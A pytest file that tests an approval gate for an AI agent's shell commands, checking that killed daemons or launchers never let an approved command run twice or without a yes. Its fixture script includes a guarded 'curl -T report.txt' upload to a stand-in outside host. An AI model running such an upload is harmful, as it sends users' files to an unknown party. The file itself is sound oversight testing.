"""SIGKILL around the launch of an approved command: it never runs twice, and never without its yes."""

from __future__ import annotations

import contextlib
import json
import random
import subprocess
import time
from pathlib import Path

import pytest

from conftest import AGENT, Guard
from interlock.daemon.client import call
from interlock.daemon.wire import Reply

LAUNCHER = Path(AGENT[3]).with_name("interlock-run")
pytestmark = pytest.mark.skipif(not LAUNCHER.is_file(), reason="no launcher: there was no C compiler at installation")

COMMAND = {"command": "./deploy.sh"}
SCRIPT = """#!/bin/sh
echo ran >> ../ran
while [ -e ../wait ]; do sleep 0.05; done
if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi
"""


@pytest.fixture
def told(guard: Guard) -> str:
    """What the agent is to run, after a person's yes."""
    script = guard.project / "deploy.sh"
    script.write_text(SCRIPT)
    script.chmod(0o755)
    return ask(guard)


def ask(guard: Guard) -> str:
    reason = guard.said_no(guard.hook("Bash", COMMAND))
    assert "request" in reason, reason  # and no daemon that was too slow to answer
    asked = call(guard.home, "inbox")[-1]
    call(guard.home, "approve", {"id": asked["id"], "code": asked["fingerprint"].rsplit("-", 1)[1]})
    return instead(guard.hook("Bash", COMMAND))


def instead(reply: Reply) -> str:
    """The command in the place of the agent's; "" for a no."""
    answer = json.loads(reply.stdout)["hookSpecificOutput"]
    return str(answer["updatedInput"]["command"]) if answer["permissionDecision"] == "allow" else ""


def begin(guard: Guard, command: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        ["bash", "-c", f"exec {command}"], cwd=guard.project, env=guard.environment, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip


def ended(guard: Guard, command: str) -> int:
    """The status it ends with."""
    running = begin(guard, command)
    running.communicate(timeout=60)
    return running.returncode


def runs(guard: Guard) -> int:
    """How often the command has run."""
    with contextlib.suppress(FileNotFoundError):
        return (guard.base / "user" / "ran").read_text().count("ran\n")
    return 0


def again(guard: Guard) -> None:
    """The agent makes the same call once more, and does what it is told."""
    if command := instead(guard.hook("Bash", COMMAND)):
        ended(guard, command)


def test_a_daemon_that_dies_with_the_ticket_leaves_the_yes_unused(guard: Guard, told: str) -> None:
    guard.kill()
    assert ended(guard, told) == 125
    guard.start()
    assert ended(guard, told) == 125
    assert runs(guard) == 0
    again(guard)
    assert runs(guard) == 1
    again(guard)
    assert runs(guard) == 1


def test_a_daemon_that_dies_while_it_runs_changes_nothing(guard: Guard, told: str) -> None:
    running = start_and_wait(guard, told)
    guard.kill()
    assert running.poll() is None
    guard.start()
    again(guard)
    assert runs(guard) == 1
    assert running.poll() is None
    (guard.base / "user" / "wait").unlink()
    running.kill()
    running.communicate()


def test_a_launcher_that_dies_takes_the_command_along_and_the_yes_is_spent(guard: Guard, told: str) -> None:
    running = start_and_wait(guard, told)
    running.kill()
    running.communicate()
    deadline = time.monotonic() + 20
    while not (ends := [e for e in guard.entries("approval.end") if e["body"].get("event") == "fail"]):
        assert time.monotonic() < deadline
        time.sleep(0.2)
    (guard.base / "user" / "wait").unlink()
    again(guard)
    assert runs(guard) == 1
    assert len(ends) == 1


def test_an_order_stops_an_approved_command_that_runs(guard: Guard, told: str) -> None:
    running = start_and_wait(guard, told)
    assert '"profile": "approved"' in json.dumps(call(guard.home, "status"))
    done = guard.cli("kill", "session-1", "--reason", "enough")
    assert done.returncode == 0, done.stdout + done.stderr
    running.communicate(timeout=30)
    assert running.returncode != 0
    assert runs(guard) == 1


@pytest.mark.parametrize("number", range(4))
def test_what_was_being_started_when_the_order_came_is_not_forgotten(guard: Guard, told: str, number: int) -> None:
    """The script was killed first, and what it had just forked stood still for ever, below no launcher."""
    running = start_and_wait(guard, told)
    time.sleep(number * 0.013)
    assert guard.cli("kill", "session-1", "--reason", "enough").returncode == 0
    running.communicate(timeout=10)  # whoever is left holds the ends of these pipes
    assert running.returncode != 0


def start_and_wait(guard: Guard, command: str) -> subprocess.Popen[str]:
    (guard.base / "user" / "wait").write_text("")
    running = begin(guard, command)
    deadline = time.monotonic() + 30
    while not runs(guard):
        assert time.monotonic() < deadline
        assert running.poll() is None
        time.sleep(0.01)
    return running


@pytest.mark.parametrize("count", [pytest.param(3, id="few"), pytest.param(60, id="all", marks=pytest.mark.slow)])
@pytest.mark.parametrize("victim", ["daemon", "launcher"])
def test_a_kill_at_any_moment_of_the_launch(guard: Guard, told: str, victim: str, count: int) -> None:
    """Every yes is used at most once, whatever dies when, and nothing runs that nobody said yes to."""
    chance = random.Random(count)
    yeses = 1
    for number in range(count):
        before = runs(guard)
        running = begin(guard, told)
        time.sleep(chance.random() * 0.03)
        if victim == "daemon":
            guard.kill()
            running.communicate(timeout=60)
            guard.start()
        else:
            running.kill()
            running.communicate(timeout=60)
        time.sleep(0.05)  # a command that was let go just now has begun
        again(guard)
        assert before <= runs(guard) <= before + 1
        assert runs(guard) <= yeses
        uses = [entry["body"]["request"] for entry in guard.entries("approval.use")]
        assert len(uses) == len(set(uses))
        if number + 1 < count:
            told = ask(guard)
            yeses += 1
